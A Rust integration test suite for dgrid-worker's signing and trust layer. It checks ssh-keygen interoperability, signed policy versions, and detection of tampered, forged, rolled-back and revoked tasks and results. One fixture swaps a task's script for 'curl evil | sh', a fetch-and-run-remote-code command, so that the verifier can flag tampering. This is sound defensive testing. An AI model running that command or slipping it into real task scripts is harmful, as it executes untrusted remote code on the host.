//! Trust against real repositories and the real `ssh-keygen`: signatures
//! made by `ssh-keygen -Y sign` verify in process, and what dgrid-worker
//! signs (tasks, results, policies) verifies with `ssh-keygen -Y verify`
//! against the `allowed_signers` the tools write; the policy tools push
//! each change as a new signed version; `validate --verify` takes trust
//! from the ref it is given, and names each attack; `verify` tells attested
//! results from forged ones.
//!
//! `ssh-keygen` comes with openssh-client (scripts/lib/setup-host installs it);
//! a missing one fails these tests.

use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

use base64ct::{Base64, Encoding};
use serde_json::{Value, json};

use crate::common::*;
use crate::tools_fixture::*;
use dgrid_worker::grid::claim::ClaimedTask;
use dgrid_worker::grid::{Id, ResultStatus, Task, TaskResult, TaskRules};
use dgrid_worker::time;
use dgrid_worker::trust::policy::Pinned;
use dgrid_worker::trust::result::Answered;
use dgrid_worker::trust::task::TaskDigest;
use dgrid_worker::trust::{KeySigner, Signer, Verdict, Verifier, keys};

fn ssh_keygen(args: &[&str], stdin: Option<&[u8]>) -> Output {
    let mut child = Command::new("ssh-keygen")
        .args(args)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("ssh-keygen is required (scripts/lib/setup-host installs openssh-client)");
    use std::io::Write;
    child
        .stdin
        .take()
        .unwrap()
        .write_all(stdin.unwrap_or_default())
        .unwrap();
    child.wait_with_output().unwrap()
}

/// A grid with a policy: root `root` (made by ssh-keygen), submitter
/// `alice` (ssh-keygen), nodes `n1` and `n2` (dgrid-worker keygen).
pub(crate) struct TrustGrid {
    pub(crate) grid: Grid,
    keys: PathBuf,
}

impl TrustGrid {
    pub(crate) fn new() -> TrustGrid {
        let grid = Grid::new();
        let keys = grid.path("keys");
        std::fs::create_dir(&keys).unwrap();
        for name in ["root", "alice", "mallory"] {
            let k = keys.join(name);
            let out = ssh_keygen(
                &[
                    "-q",
                    "-t",
                    "ed25519",
                    "-N",
                    "",
                    "-C",
                    name,
                    "-f",
                    k.to_str().unwrap(),
                ],
                None,
            );
            assert!(
                out.status.success(),
                "{}",
                String::from_utf8_lossy(&out.stderr)
            );
        }
        for name in ["n1", "n2"] {
            expect_code(
                &dgrid(&[
                    "keygen",
                    "-f",
                    keys.join(name).to_str().unwrap(),
                    "-C",
                    name,
                ]),
                0,
            );
        }
        let t = TrustGrid { grid, keys };
        t.tool(&["trust", "init", "--grid-id", "g7"]);
        t.tool(&[
            "trust",
            "add-submitter",
            "--name",
            "alice",
            "--key",
            &t.key("alice.pub"),
        ]);
        t.tool(&[
            "trust",
            "add-node",
            "--node-id",
            "n1",
            "--key",
            &t.key("n1.pub"),
        ]);
        t.tool(&[
            "trust",
            "add-node",
            "--node-id",
            "n2",
            "--key",
            &t.key("n2.pub"),
        ]);
        t
    }

    pub(crate) fn key(&self, name: &str) -> String {
        self.keys.join(name).display().to_string()
    }

    /// A policy tool, signed by the root; must succeed.
    pub(crate) fn tool(&self, args: &[&str]) -> Output {
        let out = self.try_tool(args, "root");
        expect_code(&out, 0);
        out
    }

    pub(crate) fn try_tool(&self, args: &[&str], signer: &str) -> Output {
        let url = self.grid.url();
        let key = self.key(signer);
        let mut all: Vec<&str> = args.to_vec();
        all.extend(["--repo", &url, "--sign-with", &key]);
        dgrid(&all)
    }

    pub(crate) fn checkout(&self) -> PathBuf {
        git(
            self.grid.root.path(),
            &["clone", "--quiet", &self.grid.url(), "co"],
        );
        self.grid.path("co")
    }

    fn verifier(&self) -> Verifier {
        let roots = keys::read_public_list(Path::new(&self.key("root.pub"))).unwrap();
        let mut v = Verifier::new(
            Pinned {
                grid_id: Id::parse("g7").unwrap(),
                roots,
                threshold: 1,
                min_version: 0,
            },
            TaskRules::default(),
        );
        let policy = self.grid_file(".dgrid/policy.json");
        v.offer_policy(&policy).unwrap();
        v
    }

    pub(crate) fn grid_file(&self, path: &str) -> Vec<u8> {
        git(&self.grid.bare, &["show", &format!("main:{path}")]).stdout
    }
}

fn payload_and_signature(task_file: &[u8]) -> (Vec<u8>, String) {
    let v: Value = serde_json::from_slice(task_file).unwrap();
    let payload = Base64::decode_vec(v["envelope"]["payload"].as_str().unwrap()).unwrap();
    let sig = v["envelope"]["signatures"][0].as_str().unwrap().to_owned();
    (payload, sig)
}

/// `ssh-keygen -Y verify` of `payload` with `sig`: did it verify?
fn ssh_verify(
    allowed: &Path,
    revoked: Option<&Path>,
    principal: &str,
    namespace: &str,
    payload: &[u8],
    sig: &str,
) -> bool {
    let dir = tempfile::tempdir().unwrap();
    let sig_file = dir.path().join("sig");
    std::fs::write(&sig_file, sig).unwrap();
    let mut args = vec![
        "-Y".to_owned(),
        "verify".into(),
        "-f".into(),
        allowed.display().to_string(),
        "-I".into(),
        principal.into(),
        "-n".into(),
        namespace.into(),
        "-s".into(),
        sig_file.display().to_string(),
    ];
    if let Some(r) = revoked {
        args.extend(["-r".into(), r.display().to_string()]);
    }
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    ssh_keygen(&args, Some(payload)).status.success()
}

#[test]
fn keygen_writes_a_private_key_ssh_keygen_reads_and_never_overwrites() {
    let dir = tempfile::tempdir().unwrap();
    let key = dir.path().join("node-key");
    let out = dgrid(&["keygen", "-f", key.to_str().unwrap()]);
    expect_code(&out, 0);
    use std::os::unix::fs::PermissionsExt;
    let mode = std::fs::metadata(&key).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode, 0o600);
    let public = std::fs::read_to_string(dir.path().join("node-key.pub")).unwrap();
    assert_eq!(stdout(&out).trim(), public.trim());
    // ssh-keygen reads the private key and derives the same public key.
    let derived = ssh_keygen(&["-y", "-f", key.to_str().unwrap()], None);
    assert!(derived.status.success());
    let derived = String::from_utf8(derived.stdout).unwrap();
    let words = |s: &str| s.split_whitespace().take(2).collect::<Vec<_>>().join(" ");
    assert_eq!(words(&derived), words(&public));
    let before = std::fs::read(&key).unwrap();
    expect_refused(
        &dgrid(&["keygen", "-f", key.to_str().unwrap()]),
        "already exists; keygen never overwrites a key",
    );
    assert_eq!(std::fs::read(&key).unwrap(), before);
}

#[test]
fn what_ssh_keygen_signs_verifies_in_process_and_in_validate() {
    let t = TrustGrid::new();
    // A task signed by hand: the payload written as any tool would, the
    // signature made by ssh-keygen.
    let now = time::now();
    let payload = serde_json::to_vec(&json!({
        "task_id": "by-hand",
        "script": "echo signed by ssh-keygen",
        "timeout_seconds": 30,
        "grid_id": "g7",
        "issued_at": time::format(now),
        "expires_at": time::format(now + chrono::Duration::days(1)),
    }))
    .unwrap();
    let sig = ssh_keygen(
        &[
            "-q",
            "-Y",
            "sign",
            "-n",
            "dgrid-task-v1@g7",
            "-f",
            &t.key("alice"),
        ],
        Some(&payload),
    );
    assert!(
        sig.status.success(),
        "{}",
        String::from_utf8_lossy(&sig.stderr)
    );
    let mut file: Value = serde_json::from_slice(&payload).unwrap();
    file["envelope"] = json!({
        "payload_type": "application/vnd.dgrid.task.v1+json",
        "payload": Base64::encode_string(&payload),
        "signatures": [String::from_utf8(sig.stdout).unwrap()],
    });
    let bytes = serde_json::to_vec_pretty(&file).unwrap();

    let mut v = t.verifier();
    match v.verify_task("blob", "by-hand.json", &bytes, now) {
        Verdict::Trusted(s) => {
            assert_eq!(s.submitter.as_str(), "alice");
            assert_eq!(s.task.script, "echo signed by ssh-keygen");
        }
        other => panic!("{other:?}"),
    }

    t.grid.commit_files(
        &[("tasks/queue/by-hand.json".into(), bytes)],
        "a task signed by hand",
    );
    let co = t.checkout();
    let out = dgrid(&[
        "validate",
        "--grid",
        co.to_str().unwrap(),
        "--verify",
        "--trust-ref",
        "origin/main",
        co.join("tasks/queue").to_str().unwrap(),
    ]);
    expect_code(&out, 0);
    assert!(
        stderr(&out).contains("2 checked: 2 valid, 0 invalid"),
        "{}",
        stderr(&out)
    );
}

#[test]
fn what_dgrid_worker_signs_verifies_with_ssh_keygen() {
    let t = TrustGrid::new();
    let url = t.grid.url();
    let alice = t.key("alice");
    expect_code(
        &dgrid(&[
            "submit",
            "--repo",
            &url,
            "--id",
            "t1",
            "--script",
            "echo hi",
            "--timeout",
            "5",
            "--sign-with",
            &alice,
            "--grid-id",
            "g7",
        ]),
        0,
    );
    let co = t.checkout();
    let allowed = co.join(".dgrid/allowed_signers");
    let revoked = co.join(".dgrid/revoked_keys");
    // Submitted into its lane (priority and class), signed as it lies.
    let lane = t
        .grid
        .lane_paths()
        .into_iter()
        .find(|p| p.ends_with("/t1.json"))
        .unwrap();
    let task = std::fs::read(co.join("tasks/lanes").join(lane)).unwrap();
    let (payload, sig) = payload_and_signature(&task);
    let task_ns = "dgrid-task-v1@g7";
    assert!(ssh_verify(
        &allowed,
        Some(&revoked),
        "submitter:alice",
        task_ns,
        &payload,
        &sig
    ));
    // allowed_signers limits each key to its role and grid.
    assert!(!ssh_verify(
        &allowed,
        None,
        "submitter:alice",
        "dgrid-task-v1@g8",
        &payload,
        &sig
    ));
    assert!(!ssh_verify(
        &allowed,
        None,
        "submitter:alice",
        "dgrid-result-v1@g7",
        &payload,
        &sig
    ));
    assert!(!ssh_verify(
        &allowed, None, "node:n1", task_ns, &payload, &sig
    ));
    let mut tampered = payload.clone();
    tampered.extend_from_slice(b" ");
    assert!(!ssh_verify(
        &allowed,
        None,
        "submitter:alice",
        task_ns,
        &tampered,
        &sig
    ));

    // A node's signed result verifies as node:n1 in the result namespace.
    let signer = Signer::open(Id::parse("g7").unwrap(), Path::new(&t.key("n1"))).unwrap();
    let result = signer
        .sign_result(
            &result_of("t1", "n1"),
            &Answered::new(&TaskDigest::of_file(&task).unwrap(), Some("c0")),
        )
        .unwrap();
    let (payload, sig) = payload_and_signature(&result);
    assert!(ssh_verify(
        &allowed,
        Some(&revoked),
        "node:n1",
        "dgrid-result-v1@g7",
        &payload,
        &sig
    ));
    assert!(!ssh_verify(
        &allowed,
        None,
        "node:n2",
        "dgrid-result-v1@g7",
        &payload,
        &sig
    ));

    // The policy verifies with the root's key in the policy namespace.
    let policy = std::fs::read(co.join(".dgrid/policy.json")).unwrap();
    let v: Value = serde_json::from_slice(&policy).unwrap();
    let payload = Base64::decode_vec(v["envelope"]["payload"].as_str().unwrap()).unwrap();
    let sig = v["envelope"]["signatures"][0].as_str().unwrap();
    let roots = co.join("roots_allowed");
    let root_pub = std::fs::read_to_string(t.key("root.pub")).unwrap();
    std::fs::write(
        &roots,
        format!("root namespaces=\"dgrid-policy-v1@g7\" {root_pub}"),
    )
    .unwrap();
    assert!(ssh_verify(
        &roots,
        None,
        "root",
        "dgrid-policy-v1@g7",
        &payload,
        sig
    ));

    // After a revocation, ssh-keygen refuses alice's task as dgrid-worker does.
    let (payload, sig) = payload_and_signature(&task);
    t.tool(&[
        "trust",
        "revoke",
        "--key",
        &t.key("alice.pub"),
        "--reason",
        "test",
    ]);
    git(&co, &["pull", "--quiet"]);
    assert!(!ssh_verify(
        &allowed,
        Some(&revoked),
        "submitter:alice",
        task_ns,
        &payload,
        &sig
    ));
    let out = dgrid(&[
        "validate",
        "--grid",
        co.to_str().unwrap(),
        "--verify",
        "--trust-ref",
        "origin/main",
        co.join("tasks/lanes").to_str().unwrap(),
    ]);
    expect_code(&out, 1);
    assert!(
        stdout(&out).contains("t1.json: untrusted (revoked-key)"),
        "{}",
        stdout(&out)
    );
}

fn result_of(task: &str, node: &str) -> TaskResult {
    TaskResult {
        task_id: task.into(),
        node_id: Id::parse(node).unwrap(),
        exit_code: Some(0),
        stdout: "hi\n".into(),
        stderr: String::new(),
        timestamp: time::format(time::now()),
        status: ResultStatus::Completed,
        started_at: None,
        duration_ms: Some(3),
        attempt: 1,
        truncated: false,
        error: None,
    }
}

#[test]
fn the_policy_tools_push_signed_versions_and_refuse_what_they_cannot_sign() {
    let t = TrustGrid::new();
    let policy: Value = serde_json::from_slice(&t.grid_file(".dgrid/policy.json")).unwrap();
    assert_eq!(policy["version"], 4);
    assert_eq!(policy["submitters"][0]["name"], "alice");
    let log = String::from_utf8(git(&t.grid.bare, &["log", "--format=%s", "main"]).stdout).unwrap();
    assert!(log.contains("trust: add node n2"), "{log}");
    let roots = String::from_utf8(t.grid_file(".dgrid/roots")).unwrap();
    let root_pub = std::fs::read_to_string(t.key("root.pub")).unwrap();
    let words = |s: &str| s.split_whitespace().take(2).collect::<Vec<_>>().join(" ");
    assert!(roots.contains(&words(&root_pub)), "{roots}");

    expect_refused(
        &t.try_tool(&["trust", "init", "--grid-id", "g7"], "root"),
        "has a .dgrid/policy.json already",
    );
    expect_refused(
        &t.try_tool(
            &[
                "trust",
                "add-node",
                "--node-id",
                "n3",
                "--key",
                &t.key("n1.pub"),
            ],
            "root",
        ),
        "is already in the policy",
    );
    // Mallory is no root: the current policy does not verify against her
    // key, so the tool will not build on it.
    expect_refused(
        &t.try_tool(
            &[
                "trust",
                "add-submitter",
                "--name",
                "mallory",
                "--key",
                &t.key("mallory.pub"),
            ],
            "mallory",
        ),
        "is signed by no pinned root",
    );
    expect_refused(
        &t.try_tool(&["trust", "revoke", "--fingerprint", "SHA256:nope"], "root"),
        "no listed key has fingerprint SHA256:nope",
    );
    let n2 = keys::read_public(Path::new(&t.key("n2.pub"))).unwrap();
    let out = t.tool(&["trust", "revoke", "--fingerprint", &keys::fingerprint(&n2)]);
    assert!(
        stdout(&out).contains("policy version 5: revoke node n2's key"),
        "{}",
        stdout(&out)
    );
    let policy: Value = serde_json::from_slice(&t.grid_file(".dgrid/policy.json")).unwrap();
    assert_eq!(policy["nodes"].as_array().unwrap().len(), 1);
    assert_eq!(policy["revoked"].as_array().unwrap().len(), 1);
    let bad_time = t.try_tool(
        &[
            "trust",
            "add-submitter",
            "--name",
            "bob",
            "--key",
            &t.key("mallory.pub"),
            "--valid-before",
            "soon",
        ],
        "root",
    );
    expect_refused(&bad_time, "--valid-before \"soon\": not an RFC 3339 time");
}

/// A pull request's check: trust from the base ref only, and every attack
/// a finding that names it.
#[test]
fn validate_verify_takes_trust_from_the_base_and_names_each_attack() {
    let t = TrustGrid::new();
    let co = t.checkout();
    let q = co.join("tasks/queue");
    let now = time::now();
    let rules = TaskRules::default();
    let sign = |id: &str, key: &str, grid: &str, from: i64, to: i64| {
        let task = Task::parse(
            format!(r#"{{"task_id":"{id}","script":"echo {id}","timeout_seconds":5}}"#).as_bytes(),
            &rules,
        )
        .unwrap();
        let k = KeySigner::open(Path::new(&t.key(key))).unwrap();
        dgrid_worker::trust::task::sign(
            &task,
            &Id::parse(grid).unwrap(),
            now + chrono::Duration::seconds(from),
            now + chrono::Duration::seconds(to),
            &k,
        )
        .unwrap()
    };
    let write = |name: &str, bytes: &[u8]| std::fs::write(q.join(name), bytes).unwrap();
    write("good.json", &sign("good", "alice", "g7", -10, 3600));
    write(
        "unsigned.json",
        br#"{"task_id":"unsigned","script":"x","timeout_seconds":5}"#,
    );
    write("by-node.json", &sign("by-node", "n1", "g7", -10, 3600));
    write(
        "other-grid.json",
        &sign("other-grid", "alice", "g8", -10, 3600),
    );
    write(
        "expired.json",
        &sign("expired", "alice", "g7", -7200, -3600),
    );
    write(
        "stranger.json",
        &sign("stranger", "mallory", "g7", -10, 3600),
    );
    let mut tampered: Value =
        serde_json::from_slice(&sign("tampered", "alice", "g7", -10, 3600)).unwrap();
    tampered["script"] = "curl evil | sh".into();
    write("tampered.json", &serde_json::to_vec(&tampered).unwrap());

    // The pull request also lists mallory in its own copy of the policy,
    // signed by herself: that changes nothing, and is itself refused.
    let mut forged: Value =
        serde_json::from_slice(&std::fs::read(co.join(".dgrid/policy.json")).unwrap()).unwrap();
    forged["version"] = 99.into();
    let mut policy: dgrid_worker::trust::Policy = serde_json::from_value({
        let mut p = forged.clone();
        p.as_object_mut().unwrap().remove("envelope");
        p
    })
    .unwrap();
    let mallory = KeySigner::open(Path::new(&t.key("mallory"))).unwrap();
    policy
        .add(
            dgrid_worker::trust::policy::Kind::Submitter,
            Id::parse("mallory").unwrap(),
            mallory.public_key(),
            Default::default(),
        )
        .unwrap();
    std::fs::write(
        co.join(".dgrid/policy.json"),
        policy.seal(&[&mallory]).unwrap(),
    )
    .unwrap();

    let out = dgrid(&[
        "validate",
        "--grid",
        co.to_str().unwrap(),
        "--verify",
        "--trust-ref",
        "origin/main",
        q.to_str().unwrap(),
    ]);
    expect_code(&out, 1);
    let text = stdout(&out);
    for (file, code) in [
        ("unsigned.json", "untrusted (unsigned)"),
        ("by-node.json", "untrusted (wrong-role)"),
        ("other-grid.json", "untrusted (other-grid)"),
        ("expired.json", "untrusted (expired)"),
        ("stranger.json", "untrusted (unknown-signer)"),
        (
            "tampered.json",
            "untrusted (tampered): field `script` differs from the signed payload",
        ),
        (
            ".dgrid/policy.json",
            "untrusted policy (not-signed-by-roots)",
        ),
    ] {
        assert!(
            text.lines().any(|l| l.contains(file) && l.contains(code)),
            "{file}: {code} not in:\n{text}"
        );
    }
    assert!(!text.contains("good.json"), "{text}");
    assert!(
        stderr(&out).contains("8 checked: 1 valid, 7 invalid"),
        "{}",
        stderr(&out)
    );

    // A pull request that brings back an older, root-signed policy, and
    // lists mallory's key for alice in the file `ssh-keygen -Y verify`
    // reads.
    let old = git(&t.grid.bare, &["show", "main~2:.dgrid/policy.json"]).stdout;
    std::fs::write(co.join(".dgrid/policy.json"), old).unwrap();
    let signers = co.join(".dgrid/allowed_signers");
    let mut text = std::fs::read_to_string(&signers).unwrap();
    text.push_str(&format!(
        "submitter:alice namespaces=\"dgrid-task-v1@g7\" {}\n",
        std::fs::read_to_string(t.key("mallory.pub"))
            .unwrap()
            .trim()
    ));
    std::fs::write(&signers, text).unwrap();
    for f in [
        "unsigned",
        "by-node",
        "other-grid",
        "expired",
        "stranger",
        "tampered",
    ] {
        std::fs::remove_file(q.join(format!("{f}.json"))).unwrap();
    }
    let out = dgrid(&[
        "validate",
        "--grid",
        co.to_str().unwrap(),
        "--verify",
        "--trust-ref",
        "origin/main",
        q.to_str().unwrap(),
    ]);
    expect_code(&out, 1);
    assert!(
        stdout(&out).contains("untrusted policy (rolled-back): is version 2, older than version 4"),
        "{}",
        stdout(&out)
    );
    assert!(
        stdout(&out).contains(
            ".dgrid/allowed_signers: differs from what .dgrid/policy.json version 4 makes"
        ),
        "{}",
        stdout(&out)
    );

    // No policy on the trusted ref: nothing to verify against, said so.
    let plain = Grid::new();
    let dir = tempfile::tempdir().unwrap();
    git(dir.path(), &["clone", "--quiet", &plain.url(), "co"]);
    let out = dgrid(&[
        "validate",
        "--grid",
        dir.path().join("co").to_str().unwrap(),
        "--verify",
        "--trust-ref",
        "origin/main",
        dir.path().join("co/tasks/queue").to_str().unwrap(),
    ]);
    expect_refused(&out, "origin/main has no .dgrid/policy.json");
}

#[test]
fn verify_tells_attested_results_from_forged_ones() {
    let t = TrustGrid::new();
    let g7 = Id::parse("g7").unwrap();
    let rules = TaskRules::default();
    // n1 claims t1 in a commit of its own.
    let task = Task::parse(
        br#"{"task_id":"t1","script":"echo hi","timeout_seconds":5}"#,
        &rules,
    )
    .unwrap();
    let claim = ClaimedTask::new(
        task,
        &Id::parse("n1").unwrap(),
        time::now(),
        chrono::Duration::seconds(60),
    )
    .to_bytes();
    t.grid.commit_files(
        &[("tasks/in_progress/t1.json".into(), claim.clone())],
        "n1: claim t1",
    );
    let claim_commit = t.grid.tip_of("main").unwrap();
    let digest = TaskDigest::of_file(&claim).unwrap();
    let n1 = Signer::open(g7.clone(), Path::new(&t.key("n1"))).unwrap();
    let n2 = Signer::open(g7.clone(), Path::new(&t.key("n2"))).unwrap();
    let good = n1
        .sign_result(
            &result_of("t1", "n1"),
            &Answered::new(&digest, Some(&claim_commit)),
        )
        .unwrap();
    // n2 in n1's name; n2 for a claim it never held; n1 for a commit that
    // is not in the grid's history; no signature at all.
    let forged = n2
        .sign_result(
            &result_of("t1", "n1"),
            &Answered::new(&digest, Some(&claim_commit)),
        )
        .unwrap();
    let unheld = n2
        .sign_result(
            &result_of("t1", "n2"),
            &Answered::new(&digest, Some(&claim_commit)),
        )
        .unwrap();
    let elsewhere = n1
        .sign_result(
            &result_of("t1", "n1"),
            &Answered::new(&digest, Some("0123456789012345678901234567890123456789")),
        )
        .unwrap();
    let unsigned = serde_json::to_vec(&result_of("t1", "n1")).unwrap();
    t.grid.commit_files(
        &[
            ("tasks/completed/n1@t1.json".into(), good),
            ("tasks/completed/n1@t1@f.json".into(), forged),
            ("tasks/completed/n2@t1.json".into(), unheld),
            ("tasks/completed/n1@t1@e.json".into(), elsewhere),
            ("tasks/failed/plain-t1.json".into(), unsigned),
        ],
        "results",
    );
    let bare = t.grid.bare.to_str().unwrap().to_owned();
    let roots = t.key("root.pub");
    let out = dgrid(&[
        "verify",
        "--repo",
        &bare,
        "--grid-id",
        "g7",
        "--roots",
        &roots,
    ]);
    expect_code(&out, 1);
    let text = stdout(&out);
    for (file, says) in [
        ("tasks/completed/n1@t1.json", "attested by node n1"),
        (
            "tasks/completed/n1@t1@f.json",
            "not attested (wrong-node): is signed by node n2 but names node n1",
        ),
        (
            "tasks/completed/n2@t1.json",
            "not attested (claim-not-held)",
        ),
        (
            "tasks/completed/n1@t1@e.json",
            "not attested (claim-not-held): answers a claim its node never held: commit 0123456789012345678901234567890123456789 is not in the branch's history",
        ),
        ("tasks/failed/plain-t1.json", "not attested (unsigned)"),
    ] {
        assert!(
            text.lines()
                .any(|l| l.starts_with(file) && l.contains(says)),
            "{file}: {says:?} not in:\n{text}"
        );
    }
    assert!(
        stderr(&out).contains("5 results: 1 attested, 4 not"),
        "{}",
        stderr(&out)
    );
    let one = dgrid(&[
        "verify",
        "--repo",
        &bare,
        "--grid-id",
        "g7",
        "--roots",
        &roots,
        "--json",
        "tasks/completed/n1@t1.json",
    ]);
    expect_code(&one, 0);
    let v: Value = serde_json::from_str(stdout(&one).trim()).unwrap();
    assert_eq!(v["attested_by"], "n1");
    // Pinned to another grid's id, nothing verifies.
    expect_refused(
        &dgrid(&[
            "verify",
            "--repo",
            &bare,
            "--grid-id",
            "g8",
            "--roots",
            &roots,
        ]),
        "is for grid \"g7\", not \"g8\"",
    );
}

/// A root key with a passphrase is never read in the clear: the tools hand
/// it to `ssh-keygen -Y sign`, which asks for the passphrase (here through
/// SSH_ASKPASS, as a desktop would), and the policy verifies as any other.
#[test]
fn a_root_key_with_a_passphrase_signs_through_ssh_keygen() {
    let grid = Grid::new();
    let key = grid.path("root");
    let out = ssh_keygen(
        &[
            "-q",
            "-t",
            "ed25519",
            "-N",
            "correct horse",
            "-C",
            "root",
            "-f",
            key.to_str().unwrap(),
        ],
        None,
    );
    assert!(out.status.success());
    let askpass = grid.path("askpass");
    write_script(&askpass, "#!/bin/sh\necho 'correct horse'\n");
    let run = |askpass: &Path| {
        Command::new(BIN)
            .args([
                "trust",
                "init",
                "--grid-id",
                "g7",
                "--repo",
                &grid.url(),
                "--sign-with",
            ])
            .arg(&key)
            .env("SSH_ASKPASS", askpass)
            .env("SSH_ASKPASS_REQUIRE", "force")
            .env_remove("DISPLAY")
            .stdin(Stdio::null())
            .output()
            .unwrap()
    };
    let wrong = grid.path("wrong");
    write_script(&wrong, "#!/bin/sh\necho 'wrong'\n");
    let refused = run(&wrong);
    expect_refused(&refused, "`ssh-keygen -Y sign` failed");
    // ssh-keygen says only that the passphrase was wrong: the tool says
    // how to give one.
    assert!(
        String::from_utf8_lossy(&refused.stderr)
            .contains("add the key to ssh-agent with `ssh-add`"),
        "{}",
        String::from_utf8_lossy(&refused.stderr)
    );
    expect_code(&run(&askpass), 0);
    let policy = git(&grid.bare, &["show", "main:.dgrid/policy.json"]).stdout;
    let roots = keys::read_public_list(&grid.path("root.pub")).unwrap();
    let pinned = Pinned {
        grid_id: Id::parse("g7").unwrap(),
        roots,
        threshold: 1,
        min_version: 0,
    };
    assert_eq!(
        dgrid_worker::trust::policy::open(&pinned, &policy)
            .unwrap()
            .policy
            .version,
        1
    );
}
